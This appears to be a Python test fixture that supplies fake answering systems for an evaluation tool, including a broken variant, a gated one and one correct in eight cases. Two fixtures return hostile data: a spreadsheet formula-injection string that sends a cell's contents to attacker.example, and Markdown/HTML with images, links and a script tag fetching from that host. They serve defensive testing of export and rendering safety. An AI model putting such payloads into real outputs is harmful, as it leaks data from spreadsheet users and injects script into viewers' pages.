"""Python-callable systems for tests (`--system fake_systems:good`): a team's own system."""

from __future__ import annotations

from typing import Any

from pilot.core.models import SystemRequest

ANSWERS = {
    "annual leave": "Employees receive 25 days of annual leave each year.",
    "carried over": "Up to 8 days may be carried over to the next year.",
    "sick pay": "Sick pay lasts 12 weeks at full pay.",
}


def _answer(request: SystemRequest, broken: bool) -> dict[str, Any]:
    text = request.sources[0].text
    for key, sentence in ANSWERS.items():
        if key in request.question and not (broken and key == "annual leave"):
            start = text.index(sentence)
            return {
                "answer": sentence,
                "abstained": False,
                "claims": [sentence],
                "citations": [
                    {
                        "source_id": request.sources[0].id,
                        "cited_text": sentence,
                        "start": start,
                        "end": start + len(sentence),
                        "claim": 0,
                    }
                ],
            }
    if broken:
        return {"answer": "Employees receive 20 days.", "abstained": False}
    return {"answer": "I can't find this in the documents.", "abstained": True}


def good(request: SystemRequest) -> dict[str, Any]:
    return _answer(request, broken=False)


async def worse(request: SystemRequest) -> dict[str, Any]:
    """A prompt change that breaks the annual-leave answers and stops abstaining."""
    return _answer(request, broken=True)


async def gated(request: SystemRequest) -> dict[str, Any]:
    """Logs each call (case id, one line, to $PILOT_TEST_CALL_LOG) and answers only once the
    file $PILOT_TEST_GATE exists, so a test can hold a run mid-flight without timing."""
    import asyncio
    import os
    from pathlib import Path

    with open(os.environ["PILOT_TEST_CALL_LOG"], "a") as log:
        log.write(request.case_id + "\n")
    gate = Path(os.environ["PILOT_TEST_GATE"])
    while not gate.exists():
        await asyncio.sleep(0.02)
    return _answer(request, broken=False)


def eighth_right(request: SystemRequest) -> dict[str, Any]:
    """Right on one case in eight (the carried-over questions #1, #9, ...): accuracy 0.125."""
    number = int(request.question.rsplit("#", 1)[1])
    if number % 8 == 1:
        return _answer(request, broken=False)
    return {"answer": "Employees receive 20 days.", "abstained": False}


HOSTILE_ANSWER = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'


def spreadsheet_attack(request: SystemRequest) -> dict[str, Any]:
    """Answers with cells a spreadsheet would run as formulas (issue 9, finding 11)."""
    number = int(request.case_id.rsplit("-", 1)[-1])
    answers = [HOSTILE_ANSWER, "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "plain"]
    return {"answer": answers[number % len(answers)], "abstained": False}


HOSTILE_MARKUP = (
    "![x](http://attacker.example/img.png) [click](http://attacker.example/link) "
    '<img src="http://attacker.example/tag.png"> <script>fetch("http://attacker.example/s")'
    "</script> $\\sum_{i}^{n} x$ www.attacker.example"
)


def hostile(request: SystemRequest) -> dict[str, Any]:
    """Errors and answers written to render as Markdown or HTML (issue 9, finding 7)."""
    number = int(request.case_id.rsplit("-", 1)[-1])
    if number % 2:
        raise RuntimeError(f"upstream said: {HOSTILE_MARKUP}")
    return {"answer": f"Answer: {HOSTILE_MARKUP}", "abstained": False}
